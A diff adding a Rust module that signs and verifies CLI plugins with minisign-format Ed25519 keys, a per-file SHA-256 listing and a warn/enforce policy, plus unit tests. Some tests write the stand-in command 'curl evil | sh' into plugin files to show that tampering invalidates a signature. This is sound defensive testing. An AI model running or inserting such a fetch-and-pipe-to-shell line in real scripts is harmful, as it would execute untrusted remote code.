@@ -0,0 +1,586 @@
+//! Plugin signatures
+//!
+//! Hook scripts run on every tool use, so a plugin can be signed by whoever
+//! publishes it and checked against the keys listed in
+//! `plugins.signing.trusted-keys` (plus the local signing key). The signed
+//! message is the SHA-256 of every file in the plugin, by relative path,
+//! leaving out build output and tooling state ([`UNSIGNED_DIRS`]) and the
+//! signature itself, `plugin.sig`. `__pycache__/` is not left out: Python
+//! would run a shipped `.pyc` instead of its signed source, so pais runs
+//! Python hooks without writing bytecode and any `.pyc` there must be signed.
+//! A `.venv/` is never copied into an installed plugin, and `plugin install`
+//! refuses a source that ships one, so the interpreter hooks run is one uv
+//! created locally.
+//!
+//! What hooks actually execute is listed even when it lives in one of those
+//! directories: every hook script the manifest names (a Rust binary under
+//! `target/`, a wasm component) and, for TypeScript hooks, the plugin's own
+//! `node_modules/.bin/tsx`. A plugin whose hooks run build output therefore
+//! verifies only when it was signed after that build, so signing a compiled
+//! plugin is done where it was built. Dependencies the scripts load from
+//! `node_modules/` or `.venv/` are not covered; the lockfiles pinning them
+//! are.
+//!
+//! Keys and signatures use minisign's Ed25519 formats: a trusted key is a
+//! minisign public key (the `.pub` file or its base64 line), and `plugin.sig`
+//! is a minisign signature of the file listing. The secret key `pais plugin
+//! sign` creates is pais's own (unencrypted) file, kept with mode 0600.
+//!
+//! `plugins.signing.policy` decides what an unsigned plugin, an unknown key
+//! or a bad signature means: nothing (`off`), a warning (`warn`), or
+//! refusing to install the plugin and skipping its hooks (`enforce`).
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use chrono::Utc;
+use eyre::{Context, Result};
+use ring::digest::{SHA256, digest};
+use ring::rand::{SecureRandom, SystemRandom};
+use ring::signature::{ED25519, Ed25519KeyPair, KeyPair, UnparsedPublicKey};
+use std::fmt;
+use std::fs;
+use std::path::{Path, PathBuf};
+use walkdir::WalkDir;
+
+use super::manifest::PluginManifest;
+use crate::config::{Config, PluginSigningConfig, SignaturePolicy};
+use crate::error::{CliError, ErrorCode};
+
+/// Signature file in the plugin directory
+pub const SIGNATURE_FILE: &str = "plugin.sig";
+
+/// minisign's algorithm tag for Ed25519 over the message itself
+const ALGORITHM: &[u8; 2] = b"Ed";
+
+/// First line of the signed file listing, naming its format
+const LISTING_HEADER: &str = "pais plugin files v1";
+
+/// Directories the signed listing (and a packed plugin) leaves out
+pub const UNSIGNED_DIRS: &[&str] = &["target", ".git", ".venv", "node_modules"];
+
+/// A key that can verify plugin signatures
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PublicKey {
+    id: [u8; 8],
+    key: [u8; 32],
+}
+
+impl PublicKey {
+    /// Parse a minisign public key: the whole `.pub` file or just its base64 line
+    pub fn parse(text: &str) -> Result<Self> {
+        let line = text
+            .lines()
+            .map(str::trim)
+            .find(|l| !l.is_empty() && !l.starts_with("untrusted comment:"))
+            .unwrap_or_default();
+        let bytes = STANDARD.decode(line).context("Public key is not base64")?;
+        if bytes.len() != 42 || &bytes[..2] != ALGORITHM {
+            eyre::bail!("Not a minisign Ed25519 public key");
+        }
+        let mut id = [0; 8];
+        let mut key = [0; 32];
+        id.copy_from_slice(&bytes[2..10]);
+        key.copy_from_slice(&bytes[10..]);
+        Ok(Self { id, key })
+    }
+
+    /// Key ID as minisign prints it
+    pub fn id(&self) -> String {
+        key_id(&self.id)
+    }
+
+    /// The key in minisign's `.pub` format
+    pub fn to_minisign(&self) -> String {
+        let mut bytes = ALGORITHM.to_vec();
+        bytes.extend_from_slice(&self.id);
+        bytes.extend_from_slice(&self.key);
+        format!(
+            "untrusted comment: minisign public key {}\n{}\n",
+            self.id(),
+            STANDARD.encode(bytes)
+        )
+    }
+
+    fn verify(&self, message: &[u8], signature: &[u8]) -> bool {
+        UnparsedPublicKey::new(&ED25519, self.key)
+            .verify(message, signature)
+            .is_ok()
+    }
+}
+
+/// A key that signs plugins
+pub struct SecretKey {
+    id: [u8; 8],
+    pair: Ed25519KeyPair,
+    seed: [u8; 32],
+}
+
+impl SecretKey {
+    /// A new random key
+    pub fn generate() -> Result<Self> {
+        let rng = SystemRandom::new();
+        let mut id = [0; 8];
+        let mut seed = [0; 32];
+        rng.fill(&mut id)
+            .and_then(|_| rng.fill(&mut seed))
+            .map_err(|_| eyre::eyre!("Failed to generate a signing key"))?;
+        Self::from_parts(id, seed)
+    }
+
+    fn from_parts(id: [u8; 8], seed: [u8; 32]) -> Result<Self> {
+        let pair = Ed25519KeyPair::from_seed_unchecked(&seed).map_err(|e| eyre::eyre!("Invalid signing key: {}", e))?;
+        Ok(Self { id, pair, seed })
+    }
+
+    pub fn load(path: &Path) -> Result<Self> {
+        let content = fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+        let line = content
+            .lines()
+            .map(str::trim)
+            .find(|l| !l.is_empty() && !l.starts_with("untrusted comment:"))
+            .unwrap_or_default();
+        let bytes = STANDARD
+            .decode(line)
+            .ok()
+            .filter(|b| b.len() == 42 && &b[..2] == ALGORITHM);
+        let Some(bytes) = bytes else {
+            return Err(CliError::new(
+                ErrorCode::Parse,
+                format!("{} is not a pais signing key", path.display()),
+            )
+            .into());
+        };
+        let mut id = [0; 8];
+        let mut seed = [0; 32];
+        id.copy_from_slice(&bytes[2..10]);
+        seed.copy_from_slice(&bytes[10..]);
+        Self::from_parts(id, seed)
+    }
+
+    /// Write the key (readable by the owner only) and its public key next to it as `<path>.pub`
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent).with_context(|| format!("Failed to create {}", parent.display()))?;
+        }
+        let mut bytes = ALGORITHM.to_vec();
+        bytes.extend_from_slice(&self.id);
+        bytes.extend_from_slice(&self.seed);
+        let content = format!(
+            "untrusted comment: pais plugin signing secret key {}\n{}\n",
+            key_id(&self.id),
+            STANDARD.encode(bytes)
+        );
+        fs::write(path, content).with_context(|| format!("Failed to write {}", path.display()))?;
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            fs::set_permissions(path, fs::Permissions::from_mode(0o600))
+                .with_context(|| format!("Failed to restrict {}", path.display()))?;
+        }
+        let public = public_key_path(path);
+        fs::write(&public, self.public().to_minisign()).with_context(|| format!("Failed to write {}", public.display()))
+    }
+
+    pub fn public(&self) -> PublicKey {
+        let mut key = [0; 32];
+        key.copy_from_slice(self.pair.public_key().as_ref());
+        PublicKey { id: self.id, key }
+    }
+}
+
+/// `<key>.pub`, where the public half of a secret key is written
+pub fn public_key_path(secret: &Path) -> PathBuf {
+    let mut path = secret.as_os_str().to_owned();
+    path.push(".pub");
+    PathBuf::from(path)
+}
+
+fn key_id(id: &[u8; 8]) -> String {
+    format!("{:016X}", u64::from_le_bytes(*id))
+}
+
+/// The message a plugin signature covers: a SHA-256 per file, in path order
+pub fn file_listing(plugin_dir: &Path) -> Result<String> {
+    let mut listing = format!("{}\n", LISTING_HEADER);
+    let walker = WalkDir::new(plugin_dir)
+        .follow_links(true)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|e| {
+            let name = e.file_name().to_str().unwrap_or_default();
+            e.depth() == 0 || !(e.file_type().is_dir() && UNSIGNED_DIRS.contains(&name))
+        });
+    for entry in walker {
+        let entry = entry.with_context(|| format!("Failed to read {}", plugin_dir.display()))?;
+        if !entry.file_type().is_file() || (entry.depth() == 1 && entry.file_name() == SIGNATURE_FILE) {
+            continue;
+        }
+        listing.push_str(&listing_line(plugin_dir, entry.path())?);
+    }
+    for path in skipped_entry_points(plugin_dir) {
+        listing.push_str(&listing_line(plugin_dir, &path)?);
+    }
+    Ok(listing)
+}
+
+/// `<sha256>  <relative path>` for one file
+fn listing_line(plugin_dir: &Path, path: &Path) -> Result<String> {
+    let bytes = fs::read(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    let relative: Vec<String> = path
+        .strip_prefix(plugin_dir)
+        .unwrap_or(path)
+        .components()
+        .map(|c| c.as_os_str().to_string_lossy().into_owned())
+        .collect();
+    let hash: String = digest(&SHA256, &bytes)
+        .as_ref()
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect();
+    Ok(format!("{}  {}\n", hash, relative.join("/")))
+}
+
+/// Files hooks execute from directories the walk skips, in path order
+///
+/// Missing files are left out: a hook whose script is missing doesn't run.
+fn skipped_entry_points(plugin_dir: &Path) -> Vec<PathBuf> {
+    let Ok(manifest) = PluginManifest::load(plugin_dir.join("plugin.yaml")) else {
+        return Vec::new();
+    };
+    let hooks = &manifest.hooks;
+    let scripts = hooks
+        .subscribed()
+        .into_iter()
+        .flat_map(|event| hooks.scripts_for_event(event))
+        .map(|hook| hook.script.as_str());
+
+    let mut paths = Vec::new();
+    for script in scripts {
+        if script.ends_with(".ts") || script.ends_with(".mts") || script.ends_with(".cts") {
+            paths.push(plugin_dir.join("node_modules").join(".bin").join("tsx"));
+        }
+        paths.push(plugin_dir.join(script));
+    }
+    let mut paths: Vec<PathBuf> = paths
+        .into_iter()
+        .filter(|path| {
+            let skipped = path.strip_prefix(plugin_dir).is_ok_and(|relative| {
+                relative
+                    .components()
+                    .any(|c| UNSIGNED_DIRS.iter().any(|d| c.as_os_str() == *d))
+            });
+            skipped && path.is_file()
+        })
+        .collect();
+    paths.sort();
+    paths.dedup();
+    paths
+}
+
+/// A `.venv/` shipped in `plugin_dir`, relative to it
+pub fn shipped_venv(plugin_dir: &Path) -> Option<PathBuf> {
+    WalkDir::new(plugin_dir)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|e| {
+            let name = e.file_name().to_str().unwrap_or_default();
+            e.depth() == 0 || !(e.file_type().is_dir() && matches!(name, "target" | ".git" | "node_modules"))
+        })
+        .filter_map(|e| e.ok())
+        .find(|e| e.depth() > 0 && e.file_type().is_dir() && e.file_name() == ".venv")
+        .map(|e| e.path().strip_prefix(plugin_dir).unwrap_or(e.path()).to_path_buf())
+}
+
+/// Sign the plugin in `plugin_dir`, writing `plugin.sig`
+pub fn sign(plugin_dir: &Path, name: &str, key: &SecretKey) -> Result<PathBuf> {
+    let listing = file_listing(plugin_dir)?;
+    let signature = key.pair.sign(listing.as_bytes());
+    let trusted_comment = format!("timestamp:{}\tplugin:{}", Utc::now().timestamp(), name);
+    let mut global = signature.as_ref().to_vec();
+    global.extend_from_slice(trusted_comment.as_bytes());
+    let global_signature = key.pair.sign(&global);
+
+    let mut bytes = ALGORITHM.to_vec();
+    bytes.extend_from_slice(&key.id);
+    bytes.extend_from_slice(signature.as_ref());
+    let content = format!(
+        "untrusted comment: signature from pais plugin sign\n{}\ntrusted comment: {}\n{}\n",
+        STANDARD.encode(bytes),
+        trusted_comment,
+        STANDARD.encode(global_signature.as_ref())
+    );
+    let path = plugin_dir.join(SIGNATURE_FILE);
+    fs::write(&path, content).with_context(|| format!("Failed to write {}", path.display()))?;
+    Ok(path)
+}
+
+/// What checking a plugin's signature found
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verification {
+    Verified { key_id: String },
+    Unsigned,
+    UntrustedKey { key_id: String },
+    Invalid(String),
+}
+
+impl fmt::Display for Verification {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Verification::Verified { key_id } => write!(f, "signed by trusted key {}", key_id),
+            Verification::Unsigned => write!(f, "not signed"),
+            Verification::UntrustedKey { key_id } => write!(f, "signed by untrusted key {}", key_id),
+            Verification::Invalid(reason) => write!(f, "invalid signature ({})", reason),
+        }
+    }
+}
+
+/// Check `plugin_dir`'s signature against `trusted` keys
+pub fn verify(plugin_dir: &Path, trusted: &[PublicKey]) -> Verification {
+    let Ok(content) = fs::read_to_string(plugin_dir.join(SIGNATURE_FILE)) else {
+        return Verification::Unsigned;
+    };
+    let invalid = |reason: &str| Verification::Invalid(reason.to_string());
+    let lines: Vec<&str> = content.lines().map(str::trim).collect();
+    let (Some(signature), Some(trusted_comment), Some(global)) = (
+        lines.get(1).and_then(|l| STANDARD.decode(l).ok()),
+        lines.get(2).and_then(|l| l.strip_prefix("trusted comment: ")),
+        lines.get(3).and_then(|l| STANDARD.decode(l).ok()),
+    ) else {
+        return invalid("malformed plugin.sig");
+    };
+    if signature.len() != 74 || &signature[..2] != ALGORITHM {
+        return invalid("not an Ed25519 minisign signature");
+    }
+    let mut id = [0; 8];
+    id.copy_from_slice(&signature[2..10]);
+    let Some(key) = trusted.iter().find(|k| k.id == id) else {
+        return Verification::UntrustedKey { key_id: key_id(&id) };
+    };
+
+    let mut signed_comment = signature[10..].to_vec();
+    signed_comment.extend_from_slice(trusted_comment.as_bytes());
+    if !key.verify(&signed_comment, &global) {
+        return invalid("trusted comment doesn't match");
+    }
+    match file_listing(plugin_dir) {
+        Ok(listing) if key.verify(listing.as_bytes(), &signature[10..]) => Verification::Verified { key_id: key.id() },
+        Ok(_) => invalid("files changed since signing"),
+        Err(e) => Verification::Invalid(format!("{:#}", e)),
+    }
+}
+
+/// Checks plugins against the configured trust policy
+pub struct Verifier {
+    policy: SignaturePolicy,
+    trusted: Vec<PublicKey>,
+}
+
+impl Verifier {
+    /// The verifier `config` describes, or `None` when the policy is `off`
+    pub fn from_config(config: &PluginSigningConfig) -> Option<Self> {
+        if config.policy == SignaturePolicy::Off {
+            return None;
+        }
+        let mut trusted = Vec::new();
+        for entry in &config.trusted_keys {
+            let path = Config::expand_path(Path::new(entry));
+            let text = if path.is_file() {
+                fs::read_to_string(&path).unwrap_or_default()
+            } else {
+                entry.clone()
+            };
+            match PublicKey::parse(&text) {
+                Ok(key) => trusted.push(key),
+                Err(e) => log::warn!("Ignoring trusted key '{}': {:#}", entry, e),
+            }
+        }
+        let own = public_key_path(&Config::expand_path(Path::new(&config.key)));
+        if let Ok(key) = fs::read_to_string(&own)
+            .map_err(eyre::Report::from)
+            .and_then(|t| PublicKey::parse(&t))
+        {
+            trusted.push(key);
+        }
+        Some(Self {
+            policy: config.policy,
+            trusted,
+        })
+    }
+
+    pub fn verify(&self, plugin_dir: &Path) -> Verification {
+        verify(plugin_dir, &self.trusted)
+    }
+
+    /// Apply the policy: `Ok(None)` when verified, `Ok(Some(warning))` under
+    /// `warn`, an error under `enforce`
+    pub fn check(&self, plugin_dir: &Path, name: &str) -> Result<Option<String>, CliError> {
+        self.apply(self.verify(plugin_dir), name)
+    }
+
+    /// [`Self::check`] for a plugin's source before it is installed, which
+    /// also must not ship a `.venv/`
+    pub fn check_source(&self, source: &Path, name: &str) -> Result<Option<String>, CliError> {
+        match shipped_venv(source) {
+            Some(venv) => self.apply(
+                Verification::Invalid(format!(
+                    "shipping {}/, which the signature doesn't cover",
+                    venv.display()
+                )),
+                name,
+            ),
+            None => self.check(source, name),
+        }
+    }
+
+    fn apply(&self, verification: Verification, name: &str) -> Result<Option<String>, CliError> {
+        match verification {
+            Verification::Verified { .. } => Ok(None),
+            problem if self.policy == SignaturePolicy::Warn => Ok(Some(format!("Plugin '{}' is {}", name, problem))),
+            problem => Err(CliError::new(
+                ErrorCode::InvalidInput,
+                format!("Plugin '{}' is {}", name, problem),
+            )
+            .with_hint(
+                "Trust its publisher's key under plugins.signing.trusted-keys, or sign it yourself with: pais plugin sign",
+            )),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_sign_and_verify() {
+        let temp = tempdir().unwrap();
+        let plugin = temp.path().join("hello");
+        fs::create_dir_all(plugin.join("hooks")).unwrap();
+        fs::create_dir_all(plugin.join("__pycache__")).unwrap();
+        fs::write(plugin.join("plugin.yaml"), "plugin:\n  name: hello\n").unwrap();
+        fs::write(plugin.join("hooks/pre.sh"), "echo hi\n").unwrap();
+        assert_eq!(verify(&plugin, &[]), Verification::Unsigned);
+
+        let key = SecretKey::generate().unwrap();
+        let key_path = temp.path().join("keys/signing.key");
+        key.save(&key_path).unwrap();
+        let key = SecretKey::load(&key_path).unwrap();
+        let public = PublicKey::parse(&fs::read_to_string(public_key_path(&key_path)).unwrap()).unwrap();
+        assert_eq!(public, key.public());
+
+        sign(&plugin, "hello", &key).unwrap();
+        let verified = verify(&plugin, std::slice::from_ref(&public));
+        assert_eq!(verified, Verification::Verified { key_id: public.id() });
+
+        // Build output doesn't count; sources and bytecode Python would run do
+        fs::create_dir_all(plugin.join("target")).unwrap();
+        fs::write(plugin.join("target/cache"), "cache").unwrap();
+        assert_eq!(verify(&plugin, std::slice::from_ref(&public)), verified);
+        assert!(matches!(verify(&plugin, &[]), Verification::UntrustedKey { .. }));
+        fs::write(plugin.join("__pycache__/pre.cpython-312.pyc"), "bytecode").unwrap();
+        assert_eq!(
+            verify(&plugin, std::slice::from_ref(&public)),
+            Verification::Invalid("files changed since signing".to_string())
+        );
+        fs::remove_file(plugin.join("__pycache__/pre.cpython-312.pyc")).unwrap();
+        fs::write(plugin.join("hooks/pre.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(
+            verify(&plugin, &[public]),
+            Verification::Invalid("files changed since signing".to_string())
+        );
+    }
+
+    #[test]
+    fn test_listing_covers_executed_build_output() {
+        let temp = tempdir().unwrap();
+        let plugin = temp.path().join("fast");
+        fs::create_dir_all(plugin.join("target/release")).unwrap();
+        fs::create_dir_all(plugin.join("target/debug")).unwrap();
+        fs::create_dir_all(plugin.join("node_modules/.bin")).unwrap();
+        fs::write(
+            plugin.join("plugin.yaml"),
+            "plugin:\n  name: fast\n  version: 0.1.0\n  description: Fast hooks\n  language: rust\nhooks:\n  PreToolUse:\n    - script: target/release/fast\n  Stop:\n    - script: hooks/stop.ts\n",
+        )
+        .unwrap();
+        fs::write(plugin.join("target/release/fast"), "binary").unwrap();
+        fs::write(plugin.join("target/debug/fast"), "unused").unwrap();
+        fs::write(plugin.join("node_modules/.bin/tsx"), "launcher").unwrap();
+
+        let listing = file_listing(&plugin).unwrap();
+        assert!(listing.contains("  target/release/fast\n"));
+        assert!(listing.contains("  node_modules/.bin/tsx\n"));
+        assert!(!listing.contains("target/debug"));
+
+        let key = SecretKey::generate().unwrap();
+        sign(&plugin, "fast", &key).unwrap();
+        let trusted = [key.public()];
+        assert!(matches!(verify(&plugin, &trusted), Verification::Verified { .. }));
+
+        // Unexecuted build output may change; what hooks run may not
+        fs::write(plugin.join("target/debug/fast"), "rebuilt").unwrap();
+        assert!(matches!(verify(&plugin, &trusted), Verification::Verified { .. }));
+        for swapped in ["target/release/fast", "node_modules/.bin/tsx"] {
+            let original = fs::read(plugin.join(swapped)).unwrap();
+            fs::write(plugin.join(swapped), "curl evil | sh").unwrap();
+            assert!(
+                matches!(verify(&plugin, &trusted), Verification::Invalid(_)),
+                "{}",
+                swapped
+            );
+            fs::write(plugin.join(swapped), original).unwrap();
+        }
+    }
+
+    #[test]
+    fn test_verifier_policy() {
+        let temp = tempdir().unwrap();
+        fs::write(temp.path().join("plugin.yaml"), "plugin:\n  name: hello\n").unwrap();
+        let mut config = PluginSigningConfig {
+            key: temp.path().join("none.key").display().to_string(),
+            ..Default::default()
+        };
+        assert!(Verifier::from_config(&config).is_none());
+
+        config.policy = SignaturePolicy::Warn;
+        let warning = Verifier::from_config(&config)
+            .unwrap()
+            .check(temp.path(), "hello")
+            .unwrap();
+        assert_eq!(warning.as_deref(), Some("Plugin 'hello' is not signed"));
+
+        config.policy = SignaturePolicy::Enforce;
+        let error = Verifier::from_config(&config)
+            .unwrap()
+            .check(temp.path(), "hello")
+            .unwrap_err();
+        assert_eq!(error.code, ErrorCode::InvalidInput);
+    }
+
+    #[test]
+    fn test_source_shipping_a_venv_is_refused() {
+        let temp = tempdir().unwrap();
+        let plugin = temp.path().join("py");
+        fs::create_dir_all(plugin.join(".venv/bin")).unwrap();
+        fs::write(plugin.join("plugin.yaml"), "plugin:\n  name: py\n").unwrap();
+        fs::write(plugin.join(".venv/bin/python"), "curl evil | sh\n").unwrap();
+        let key_path = temp.path().join("signing.key");
+        let key = SecretKey::generate().unwrap();
+        key.save(&key_path).unwrap();
+        sign(&plugin, "py", &key).unwrap();
+
+        let config = PluginSigningConfig {
+            policy: SignaturePolicy::Enforce,
+            key: key_path.display().to_string(),
+            ..Default::default()
+        };
+        let verifier = Verifier::from_config(&config).unwrap();
+        // Installed plugins get a .venv from uv; only a shipped one is refused
+        assert_eq!(verifier.check(&plugin, "py").unwrap(), None);
+        let error = verifier.check_source(&plugin, "py").unwrap_err();
+        assert!(error.message.contains(".venv"), "{}", error.message);
+
+        fs::remove_dir_all(plugin.join(".venv")).unwrap();
+        assert_eq!(verifier.check_source(&plugin, "py").unwrap(), None);
+    }
+}